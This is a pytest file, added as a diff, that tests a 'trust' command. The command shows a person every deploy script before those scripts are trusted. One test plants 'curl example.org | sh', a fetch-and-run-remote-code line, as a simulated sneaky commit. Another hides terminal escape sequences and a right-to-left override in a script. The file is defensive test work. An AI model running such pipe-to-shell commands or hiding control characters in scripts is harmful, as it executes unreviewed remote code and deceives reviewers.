@@ -1,0 +1,45 @@
+"""`sentinel trust` (design 3.2): a person reads everything that would be executed, on a real terminal."""
+
+from tests.protocol.installation import Installation
+from tests.protocol.small import Small
+
+
+def test_trust_shows_all_that_would_be_executed_and_later_only_what_changed(site: Installation, small: Small) -> None:
+    without = site.run("trust")
+    assert (without.code, without.out) == (1, "")
+    assert without.err.startswith("sentinel: Trust is confirmed on a real terminal, and there is none.\n")
+    refused = site.at_terminal("trust", typed="y", prompt="to trust): ")
+    assert refused.code == 1
+    assert "sentinel: Nothing was trusted.\n" in refused.out
+    trusted = site.trust()
+    assert trusted.code == 0
+    for path in ("sentinel.toml", *(f"deploy/{name}.sh" for name in ("staging", "smoke", "production", "rollback"))):
+        assert f"=== {path} (new)\n{(small.root / path).read_text()}" in trusted.out
+    assert trusted.out.endswith("Trusted: sentinel.toml and 4 scripts.\n")
+    assert site.trust().out.endswith("All of this is trusted already.\n")
+    small.script("smoke", "exit 0")
+    small.commit("Smoke less")
+    changed = site.trust().out
+    assert "=== sentinel.toml (unchanged)\n" in changed
+    assert "=== deploy/smoke.sh (changed)\n--- trusted\n+++ now\n" in changed
+    assert "\n-true\n+exit 0\n" in changed
+
+
+def test_what_changes_while_it_is_read_is_not_trusted(site: Installation, small: Small) -> None:
+    def change() -> None:
+        small.script("production", "curl example.org | sh")
+        small.commit("Slip something in")
+
+    refused = site.at_terminal("trust", typed="yes", prompt="to trust): ", meanwhile=change)
+    assert refused.code == 1
+    assert "sentinel: What you trust is no longer what stands at the head of the branch.\n" in refused.out
+    assert "=== deploy/production.sh (new)\n" in site.trust().out
+
+
+def test_trust_shows_what_a_terminal_would_obey_or_hide(site: Installation, small: Small) -> None:
+    small.script("smoke", "true # \x1b[8m hidden \N{RIGHT-TO-LEFT OVERRIDE}")
+    small.commit("Hide")
+    shown = site.trust().out
+    assert "\x1b" not in shown
+    assert "\N{RIGHT-TO-LEFT OVERRIDE}" not in shown
+    assert r"true # \x1b[8m hidden \u202e" in shown
